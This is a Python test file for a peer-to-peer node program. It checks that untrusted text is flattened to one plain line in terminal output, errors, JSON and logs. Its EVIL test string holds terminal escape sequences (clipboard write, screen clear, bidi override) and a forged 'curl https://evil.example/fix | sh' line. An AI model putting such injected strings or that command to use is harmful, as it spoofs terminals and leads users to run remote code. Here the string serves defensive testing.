"""What peers, sites and files say reaches a terminal as text within this program's lines, and as nothing else."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from node.base.terminal import LineFormatter, json_text, one_lined
from node.cli.base.common import emit, fail, run_async, run_verb
from node.cli.nodes.node import _show_doctor
from node.cli.searches.explore_words import progress_line as _line
from node.trust.reach import Reach
from protocol.errors import MeshError
from protocol.messages import KIND_SEARCH, Done, EchoAsk, EchoTell, SearchOpen, SearchSpec
from protocol.recording.records.session import Profile
from protocol.wire import cbor
from protocol.wire.line import OBEYED, one_line
from tests.mesh_memory import NEVER, ORIGIN, MemoryNode, memory_mesh

EVIL = "x\x1b]52;c;cHduZWQ=\x07\x9b2J\u202e\u2028\r\n    → curl https://evil.example/fix | sh\n✓ all is well"
DOCTOR = {"checks": [{"name": f"eve → here{EVIL}", "status": "fault", "finding": EVIL, "remedy": "node doctor"}]}


def _lines(printed: str) -> list[str]:
    """The lines of ``printed``, once each is text and nothing else."""
    lines = printed.removesuffix("\n").split("\n")
    assert [line for line in lines if OBEYED.search(line)] == []
    return lines


def test_what_others_say_begins_no_line_of_a_result(capsys: pytest.CaptureFixture[str]) -> None:
    """Guard: node/cli/base/common.py, emit."""
    emit(DOCTOR, as_json=False, text=_show_doctor)
    lines = _lines(capsys.readouterr().out)
    assert [line.lstrip()[:1] for line in lines] == ["✗", "→"]
    assert lines[1] == "    → node doctor"


def test_what_others_say_begins_no_line_of_progress(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Guard: node/cli/base/common.py, run_verb."""

    async def call(home: Path, verb: str, params: Any, tell: Any, **more: Any) -> str:
        tell({"peer": "ABCDEFG", "error": EVIL})
        return EVIL

    monkeypatch.setattr("node.process.client.call", call)
    assert run_verb(str(tmp_path), "explore.run", {}, show=_line) == EVIL
    assert len(_lines(capsys.readouterr().err)) == 1


def test_what_others_say_begins_no_line_of_an_error(capsys: pytest.CaptureFixture[str]) -> None:
    """Guard: node/cli/base/common.py, fail."""
    with pytest.raises(SystemExit):
        fail(MeshError("peer.protocol", EVIL, session=EVIL), as_json=False)
    assert len(_lines(capsys.readouterr().err)) == 3


def test_json_is_exact_and_obeyed_by_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """Guard: node/base/terminal.py, json_text."""
    emit(DOCTOR, as_json=True, text=_show_doctor)
    printed = capsys.readouterr().out
    _lines(printed)
    assert json.loads(printed) == DOCTOR
    with pytest.raises(SystemExit):
        fail(MeshError("peer.protocol", EVIL), as_json=True)
    printed = capsys.readouterr().out
    _lines(printed)
    assert json.loads(printed)["error"]["message"] == EVIL


def test_what_others_say_begins_no_line_of_the_log(capsys: pytest.CaptureFixture[str]) -> None:
    """Guard: node/base/terminal.py, LineFormatter.formatMessage."""
    try:
        raise ValueError(EVIL)
    except ValueError as error:
        record = logging.LogRecord("node", logging.ERROR, "", 0, "of %s", (EVIL,), (ValueError, error, None))
    first, *trace = _lines(LineFormatter("%(levelname)s %(message)s").format(record))
    assert first.startswith("ERROR of x")
    assert trace
    assert all(line.startswith("  ") for line in trace)

    async def nothing() -> None: ...

    run_async(nothing())  # of a node in the process of a command
    assert logging.lastResort is not None
    logging.lastResort.handle(record)
    assert all(line.startswith("  ") for line in _lines(capsys.readouterr().err)[1:])


def test_what_a_command_was_refused_is_told_once(capsys: pytest.CaptureFixture[str]) -> None:
    async def nothing() -> None: ...

    run_async(nothing())
    assert logging.lastResort is not None
    for channel in ("control", "peer"):
        args = (channel, "once input.invalid")
        record = logging.LogRecord("node", logging.WARNING, "", 0, "refused on the %s channel: %s", args, None)
        logging.lastResort.handle(record)
    assert capsys.readouterr().err == "refused on the peer channel: once input.invalid\n"


@given(st.text())
def test_a_line_is_as_long_as_before_and_stays_as_it_is(text: str) -> None:
    line = one_line(text)
    assert len(line) == len(text)
    assert one_line(line) == line
    assert json.loads(json_text([text])) == [text]


def test_all_text_but_what_is_obeyed_stays() -> None:
    said = {"größe": ["日本 👩‍👩‍👧", 7, None, True], "": {"a b": 1.5}}
    assert one_lined(said) == said
    assert one_lined(({"a\nb": "c\x7f"},)) == [{"a b": "c "}]


# --- at the boundary -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["way", "code", "message"])
def test_an_echo_that_is_more_than_text_is_refused(field: str) -> None:
    """Guard: protocol/messages.py, EchoTell."""
    told: dict[str, Any] = {"reached": False, field: "x\n"}
    with pytest.raises(MeshError) as refused:
        cbor.decode_as(cbor.encode(told), EchoTell)
    assert refused.value.code == "message.invalid"


async def test_an_echo_of_this_node_is_text(monkeypatch: pytest.MonkeyPatch) -> None:
    async with memory_mesh("anna", "bruno") as (anna, bruno):
        reach = Reach(anna.calls, anna.client, anna.server, anna.mesh.clock, mode="direct")

        async def call(*_: Any) -> None:
            raise MeshError("peer.unreachable", "no way\nthere")

        monkeypatch.setattr(anna.calls, "call", call)
        told = await reach.echo(bruno.id, EchoAsk())
    assert told.message == "no way there"


async def test_a_goal_that_is_more_than_text_is_refused_on_both_sides() -> None:
    """Guard: protocol/messages.py, SearchSpec."""
    async with memory_mesh("anna", "bruno") as (anna, bruno):
        with pytest.raises(MeshError) as refused:
            await anna.calls.call(bruno.id, "search/open", _sealed(anna, bruno, "g\x1b[2J\n✓ ok"), Done)
        assert refused.value.code == "message.invalid"
        with pytest.raises(MeshError) as mistaken:
            await anna.explorer.run(
                goal="find\nit", start_url=f"{ORIGIN}/", condition=NEVER, peers=[], seconds=1, seed=1, tell=print
            )
        assert (mistaken.value.code, mistaken.value.message) == (
            "input.invalid",
            "a goal must be one line without control characters",
        )
        assert await anna.store.searches() == await bruno.store.searches() == []


def _sealed(anna: MemoryNode, bruno: MemoryNode, goal: str) -> SearchOpen:
    spec = SearchSpec(
        id="sea-AAAAAAAAAAAAAAAAAAAAA",
        coordinator=anna.id,
        goal=goal,
        start_url=f"{ORIGIN}/",
        condition=NEVER,
        profile=Profile(),
        participants=(anna.id, bruno.id),
        seconds=60,
        created_ms=anna.mesh.clock.now_ms(),
        seed=1,
    )
    return SearchOpen(spec=anna.identity.artefact(KIND_SEARCH, spec.id, spec).envelope)
